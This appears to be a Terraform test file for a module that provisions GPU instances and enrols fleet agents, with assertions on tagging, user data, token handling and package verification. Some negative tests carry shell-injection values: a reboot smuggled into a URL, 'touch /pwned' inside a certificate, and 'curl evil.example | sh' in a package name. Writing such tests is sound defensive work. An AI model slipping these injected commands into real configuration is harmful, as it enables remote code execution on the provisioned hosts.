# Offline: the AWS provider is mocked, so these run without credentials or network.
mock_provider "aws" {}

variables {
  region      = "us-east-1"
  agent_slots = ["agent-00", "agent-01"]
  ami_id      = "ami-0123456789abcdef0"
  server_url  = "https://kfleet.example.com"
  enrol_token = "enrol-0123456789abcdef"
  owner       = "kernels-team"
  cost_center = "cc-4711"
}

run "plans_one_l4_instance_per_slot" {
  command = plan

  assert {
    condition     = length(aws_instance.agent) == 2
    error_message = "expected one instance per slot"
  }
  assert {
    condition     = alltrue([for i in aws_instance.agent : i.instance_type == "g6.xlarge"])
    error_message = "default instance type must be g6.xlarge (one L4)"
  }
  assert {
    condition     = alltrue([for i in aws_instance.agent : i.ami == "ami-0123456789abcdef0"])
    error_message = "the AMI input must be used"
  }
  assert {
    condition     = aws_instance.agent["agent-01"].metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required"
  }
}

run "tags_every_instance_for_ownership_and_cost" {
  command = plan

  variables {
    extra_tags = { Owner = "someone-else", Team = "perf" }
  }

  assert {
    condition     = aws_instance.agent["agent-00"].tags["Project"] == "kfleet"
    error_message = "Project tag missing"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["Owner"] == "kernels-team"
    error_message = "extra_tags must not override Owner"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["CostCenter"] == "cc-4711"
    error_message = "CostCenter tag missing"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["KfleetRegion"] == "us-east-1"
    error_message = "KfleetRegion tag must be the region"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["ManagedBy"] == "terraform"
    error_message = "ManagedBy tag missing"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["KfleetSlot"] == "agent-00"
    error_message = "KfleetSlot tag must name the slot"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].tags["Team"] == "perf"
    error_message = "extra tags must be kept"
  }
  assert {
    condition     = aws_instance.agent["agent-00"].root_block_device[0].tags["CostCenter"] == "cc-4711"
    error_message = "the root volume must carry the cost tags too"
  }
}

run "user_data_installs_and_enrols_the_agent" {
  command = plan

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_SERVER=https://kfleet.example.com")
    error_message = "user data must point the agent at the orchestrator"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_REGION=us-east-1")
    error_message = "user data must carry the region"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "cat > /etc/kfleet/enrol.token <<'TOKEN'\nenrol-0123456789abcdef\nTOKEN\n") && !strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_ENROL_TOKEN")
    error_message = "the enrolment token must be written to its own 0600 file, not the environment file"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "chmod 0600 /etc/kfleet/agent.env")
    error_message = "the environment file must be private"
  }
  assert {
    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "/etc/systemd/system/") && !strcontains(aws_instance.agent["agent-00"].user_data, "/usr/local/bin/kfleet-agent")
    error_message = "the units and the agent come from the kfleet-agent package, not the user data"
  }
  assert {
    condition     = length(regexall("kfleet-agent --check[^\n]*(--enrol-token[ =]|ENROL_TOKEN)", aws_instance.agent["agent-00"].user_data)) == 0 && strcontains(aws_instance.agent["agent-00"].user_data, "--enrol-token-file /etc/kfleet/enrol.token --gpu 0")
    error_message = "kfleet-agent --check is run before the units, with the token's file and never the token"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_BACKEND=cuda") && strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_PROVIDER=terraform")
    error_message = "cloud agents use the cuda backend and the terraform provider"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "latest/meta-data/instance-id")
    error_message = "the instance id must come from IMDS"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "for gpu in $(seq 0 0); do") && strcontains(aws_instance.agent["agent-00"].user_data, "systemctl enable --now \"kfleet-agent@$gpu.service\"")
    error_message = "one agent unit per GPU must be enabled and started (one GPU on g6.xlarge)"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_HOST_ID=$instance_id\n")
    error_message = "each GPU's agent names the instance as its host (kfleet-agent@N's --host-id)"
  }
  assert {
    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "sha256sum")
    error_message = "no download step without agent_packages"
  }
  assert {
    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "/etc/kfleet/ca.pem")
    error_message = "no CA file without server_ca_pem (the agent trusts the system's CAs)"
  }
}

run "delivers_the_ca_as_a_0600_file_and_names_it_to_the_agent" {
  command = plan

  variables {
    server_ca_pem = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2E=\n-----END CERTIFICATE-----\n"
  }

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "umask 077\ncat > /etc/kfleet/ca.pem <<'PEM'\n-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2E=\n-----END CERTIFICATE-----\nPEM\nchmod 0600 /etc/kfleet/ca.pem")
    error_message = "the CA must be written, private, to /etc/kfleet/ca.pem"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "\nKFLEET_CA_FILE=/etc/kfleet/ca.pem\n")
    error_message = "agent.env must name the CA file (KFLEET_CA_FILE is the agent's --ca-file)"
  }
  assert {
    condition     = length(regexall("(?i)kfleet-agent [^\n]*(--enrol-token[ =]|_token})", aws_instance.agent["agent-00"].user_data)) == 0
    error_message = "no token on the agent's command line (only the path of its file)"
  }
  assert {
    condition     = length(regexall("enrol-0123456789abcdef", aws_instance.agent["agent-00"].user_data)) == 1
    error_message = "the enrolment token appears once, in the 0600 agent.env"
  }
}

run "downloads_verifies_and_installs_the_packages_when_asked" {
  command = plan

  variables {
    agent_packages = [
      { url = "https://downloads.example.com/kfleet-agent_0.1.0-1_amd64.deb", sha256 = "0000000000000000000000000000000000000000000000000000000000000000" },
      { url = "https://downloads.example.com/kfleet-kernels_0.1.0-1_all.deb", sha256 = "1111111111111111111111111111111111111111111111111111111111111111" },
    ]
  }

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "curl -fsSL --retry 5 -o \"$debs/2.deb\" 'https://downloads.example.com/kfleet-kernels_0.1.0-1_all.deb'\necho '1111111111111111111111111111111111111111111111111111111111111111  '\"$debs/2.deb\" | sha256sum -c -\n")
    error_message = "each downloaded package must be checksum-verified"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "apt-get install -y -q -o Dpkg::Options::=--force-confold \"$debs\"/*.deb")
    error_message = "the verified packages are installed with apt (which brings their dependencies)"
  }
}

run "refuses_a_package_url_with_shell_characters" {
  command = plan
  variables {
    agent_packages = [{ url = "https://x.example.com/a.deb'; reboot; '", sha256 = "0000000000000000000000000000000000000000000000000000000000000000" }]
  }
  expect_failures = [var.agent_packages]
}

run "zero_slots_plans_nothing" {
  command = plan
  variables {
    agent_slots = []
  }
  assert {
    condition     = length(aws_instance.agent) == 0
    error_message = "no slots means no instances"
  }
}

run "rejects_a_non_l4_instance_type" {
  command = plan
  variables {
    instance_type = "g6e.xlarge"
  }
  expect_failures = [var.instance_type]
}

run "rejects_a_p4_instance_type" {
  command = plan
  variables {
    instance_type = "p4d.24xlarge"
  }
  expect_failures = [var.instance_type]
}

run "rejects_a_bad_region" {
  command = plan
  variables {
    region = "useast1"
  }
  expect_failures = [var.region]
}

run "rejects_too_many_agents" {
  command = plan
  variables {
    agent_slots = [for i in range(17) : "a-${i}"]
  }
  expect_failures = [var.agent_slots]
}

run "rejects_a_short_token" {
  command = plan
  variables {
    enrol_token = "short"
  }
  expect_failures = [var.enrol_token]
}

run "rejects_a_ca_with_more_than_certificates" {
  command = plan
  variables {
    server_ca_pem = "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\nPEM\ntouch /pwned\n"
  }
  expect_failures = [var.server_ca_pem]
}

run "rejects_a_url_with_shell_characters" {
  command = plan
  variables {
    server_url = "https://x.example.com/$(reboot)"
  }
  expect_failures = [var.server_url]
}

run "rejects_a_missing_owner" {
  command = plan
  variables {
    owner = " "
  }
  expect_failures = [var.owner]
}

run "starts_one_agent_per_gpu_on_a_multi_gpu_type" {
  command = plan

  variables {
    instance_type = "g6.48xlarge"
  }

  assert {
    condition     = output.gpus_per_instance == 8
    error_message = "g6.48xlarge has 8 L4s"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "for gpu in $(seq 0 7); do")
    error_message = "an 8-GPU instance starts kfleet-agent@0 .. kfleet-agent@7"
  }
}

run "gpus_per_instance_can_be_set" {
  command = plan

  variables {
    instance_type     = "g6.12xlarge"
    gpus_per_instance = 2
  }

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "for gpu in $(seq 0 1); do")
    error_message = "gpus_per_instance overrides the type's count"
  }
}

run "rejects_a_bad_gpu_count" {
  command = plan

  variables {
    gpus_per_instance = 9
  }

  expect_failures = [var.gpus_per_instance]
}

run "a_slot_with_its_own_enrolment_token_never_gets_the_fleets" {
  command = plan

  variables {
    enrol_tokens = { "agent-00" = "kfe_0123456789abcdef0123456789abcdef" }
  }

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "cat > /etc/kfleet/enrol.token <<'TOKEN'\nkfe_0123456789abcdef0123456789abcdef\nTOKEN\n")
    error_message = "agent-00 must boot with its own enrolment token"
  }
  assert {
    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "enrol-0123456789abcdef")
    error_message = "the fleet's token must not reach a slot that has its own"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-01"].user_data, "cat > /etc/kfleet/enrol.token <<'TOKEN'\nenrol-0123456789abcdef\nTOKEN\n")
    error_message = "a slot without its own token keeps the fleet's"
  }
}

run "a_slot_without_any_enrolment_token_is_refused" {
  command = plan

  variables {
    enrol_token  = ""
    enrol_tokens = { "agent-00" = "kfe_0123456789abcdef0123456789abcdef" }
  }

  expect_failures = [aws_instance.agent["agent-01"]]
}

run "user_data_gives_the_agents_a_python_with_torch_and_triton" {
  command = plan

  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_PYTHON=/opt/kfleet-python/bin/python3")
    error_message = "the agents must be told their Python (KFLEET_PYTHON in agent.env)"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "python3 -m venv --clear \"$py_venv\"") && strcontains(aws_instance.agent["agent-00"].user_data, "pip\" install --quiet --no-cache-dir 'torch' 'triton' 'ninja'")
    error_message = "the venv must be made and torch, triton and ninja installed into it"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "these agents run CUDA jobs only")
    error_message = "a failed install must leave the agents serving CUDA jobs, saying why"
  }
  assert {
    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "pip\" install") && length(split("pip\" install", aws_instance.agent["agent-00"].user_data)[0]) < length(split("systemctl enable --now", aws_instance.agent["agent-00"].user_data)[0])
    error_message = "the venv must exist before the agents start (each finds its Python once, at start)"
  }
}

run "python_packages_empty_installs_no_venv" {
  command = plan
  variables {
    python_packages = []
  }

  assert {
    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_PYTHON") && !strcontains(aws_instance.agent["agent-00"].user_data, "/opt/kfleet-python")
    error_message = "python_packages = [] must install no venv and set no KFLEET_PYTHON"
  }
}

run "python_packages_refuses_shell_characters" {
  command = plan
  variables {
    python_packages = ["torch; curl evil.example | sh"]
  }
  expect_failures = [var.python_packages]
}
